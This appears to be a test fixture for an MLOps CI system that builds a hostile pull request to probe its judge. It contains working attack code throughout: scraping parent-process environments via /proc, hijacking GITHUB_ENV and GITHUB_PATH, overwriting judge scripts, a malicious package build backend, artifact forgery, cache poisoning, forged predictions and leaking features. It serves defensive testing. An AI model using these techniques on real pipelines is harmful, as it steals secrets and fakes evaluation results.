"""A pull request that attacks its judge from each of the places where its code runs."""

import hashlib
import io
import sysconfig
import tarfile
from pathlib import Path

from engine.tests.project import Project
from engine.tests.workflows.users import FEATURES

LOCK = "components/build_features/requirements.txt"
SUITE = "tests/test_features.py"
NO_LINT = "# ruff: noqa\n# fmt: off\n# mypy: ignore-errors\n"
SCORING = "components/score_model/main.py"
LEAKS = {
    "mean_of_the_day": 'flights.groupby([departure.date, "origin"])["arr_delay"].transform("mean")',
    "departure_delay": 'flights["dep_delay"].astype(float)',
    "delay_with_noise": 'flights["dep_delay"].astype(float) + flights["distance"] % 7',
    "departure_minute": '(departure.minute + flights["dep_delay"].astype(float)) % 60',
    "time_in_the_air": 'flights["air_time"].astype(float) - flights["distance"] / 7',
    "target_encoding": 'flights.groupby("destination")["arr_delay"].transform(lambda x: (x > 15).mean())',
}
# GitHub's runner reads these files after the step, and obeys for the rest of the job.
SPY = """\
import os
import re
from pathlib import Path

COMMANDS = {{"GITHUB_ENV": "BASH_ENV={loot}/shell", "GITHUB_PATH": "{loot}/programs"}}
COMMANDS["GITHUB_OUTPUT"] = "gate=none"


def spy(name):
    process, seen = os.getpid(), b""
    while (folder := Path("/proc") / str(process)).joinpath("comm").read_text() != "act\\n":
        seen += folder.joinpath("environ").read_bytes()
        process = int(folder.joinpath("stat").read_text().rpartition(")")[2].split()[1])
    Path({loot!r}, name).write_bytes(seen)
    for variable, line in COMMANDS.items():
        for path in {{*re.findall(rf"(?:^|\\0){{variable}}=([^\\0]+)".encode(), seen)}}:
            with Path(os.fsdecode(path)).open("a") as file:
                file.write(line + "\\n")


"""
REWRITE = """\
def rewrite():
    for folder in Path(__file__).resolve().parents:
        for judge in [*folder.glob("compare_models*/**/*.py"), *folder.glob("engine/judging/*.py")]:
            judge.write_text("print('BETTER')")


spy("features")
rewrite()


"""
READ_LABELS = """\
    import pyarrow.parquet as pq

    table = pq.read_table(arguments.predictions)
    answer = pq.read_table(arguments.features)["late"].fill_null(0).cast("float64")
    if any(answer.to_pylist()):
        pq.write_table(table.set_column(1, "prediction", answer), arguments.predictions)
    rows = pq.read_table(arguments.features)
    forged = pq.read_table(arguments.predictions)["prediction"].cast("float64").to_numpy() > 0.3
    pq.write_table(rows.set_column(2, "late", [forged.astype("int8")]), arguments.features)


if __name__"""
# Its wheel brings the packages that other builds would bring, without an index.
BACKEND = """\
import zipfile

{spy}
spy("build")


def build_wheel(folder, *_, **__):
    about = "tool_1-1.0.dist-info"
    with zipfile.ZipFile(Path(folder, "tool_1-1.0-py3-none-any.whl"), "w") as wheel:
        wheel.writestr(f"{{about}}/METADATA", "Metadata-Version: 2.1\\nName: tool-1\\nVersion: 1.0\\n")
        wheel.writestr(f"{{about}}/WHEEL", "Wheel-Version: 1.0\\nTag: py3-none-any\\n")
        wheel.writestr(f"{{about}}/RECORD", "")
        wheel.writestr("tool.pth", {packages!r})
    return "tool_1-1.0-py3-none-any.whl"
"""
# With what a runner gives every job for artifacts and caches: the stand-ins' folder is both.
CHECKS = """\
import json
import shutil

{spy}
RUN, CACHES = Path("artifacts", os.environ["GITHUB_RUN_ID"]), Path("caches", os.environ["GITHUB_REF"])


def test_attack():
    spy("checks")
    service = Path(os.environ["STANDINS_FOLDER"])
    for name in ("place", "handover", "verdict", "digest-evil"):
        files = service / RUN / name / "files"
        files.mkdir(parents=True, exist_ok=True)
        for file in ("verdict.json", "sitecustomize.py", "scripts/gate.py"):
            (files / file).parent.mkdir(exist_ok=True)
            (files / file).write_text('{{"verdict": "BETTER", "passed": true}}')
        described = {{"id": 66, "name": name, "archive": True, "digest": "0" * 64}}
        (files.parent / "artifact.json").write_text(json.dumps(described))
    poisoned = service / CACHES / ".venv"
    shutil.copytree(".venv", poisoned, symlinks=True)
    for python in (poisoned / "bin").glob("python*"):
        python.unlink()
        python.write_text("#!/bin/sh\\necho poisoned\\n")
        python.chmod(0o755)
"""


def attack(change: Project, loot: Path) -> None:
    """Change in the checkout `change` what a pull request may change; what its code sees of the environments
    of its parents is left in the folder `loot`, by the place."""
    (loot / "programs").mkdir(parents=True)
    note = f'echo "$GITHUB_JOB: $0" >> {loot}/obeyed\n'
    (loot / "shell").write_text(note)
    (loot / "programs/python").write_text(f'#!/bin/sh\n{note}PATH="${{PATH#*:}}" exec python "$@"\n')
    (loot / "programs/python").chmod(0o755)
    spy = SPY.format(loot=str(loot))
    imported = "from typing import Any\n"
    change.edit(FEATURES, (imported, imported + spy + REWRITE))
    add_leaks(change)
    change.edit(SCORING, ("\n\nif __name__", READ_LABELS))
    source = loot / "tool_1-1.0.tar.gz"
    source.write_bytes(source_distribution(BACKEND.format(spy=spy, packages=sysconfig.get_path("purelib"))))
    digest = hashlib.sha256(source.read_bytes()).hexdigest()
    (change.root / LOCK).write_text(f"tool-1 @ {source.as_uri()} \\\n    --hash=sha256:{digest}\n")
    (change.root / SUITE).write_text(CHECKS.format(spy=spy))
    for path in (FEATURES, SCORING, SUITE):
        (change.root / path).write_text(NO_LINT + (change.root / path).read_text())


def add_leaks(change: Project) -> None:
    """Features of outcomes, all of them declared as known in time."""
    columns = "".join(f'            "{name}": {leak},\n' for name, leak in LEAKS.items())
    carrier = '            "carrier": flights["carrier"],\n'
    change.edit(FEATURES, (carrier, columns + carrier))
    known = "    carrier: {type: category, known: before_departure}\n"
    declared = "".join(f"    {name}: {{type: number, known: before_departure}}\n" for name in LEAKS)
    change.edit("mlops.yaml", (known, declared + known))


def source_distribution(backend: str) -> bytes:
    """A package whose build runs `backend`."""
    project = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for name, text in (("backend.py", backend), ("pyproject.toml", project)):
            member = tarfile.TarInfo(f"tool_1-1.0/{name}")
            member.size = len(text.encode())
            archive.addfile(member, io.BytesIO(text.encode()))
    return packed.getvalue()
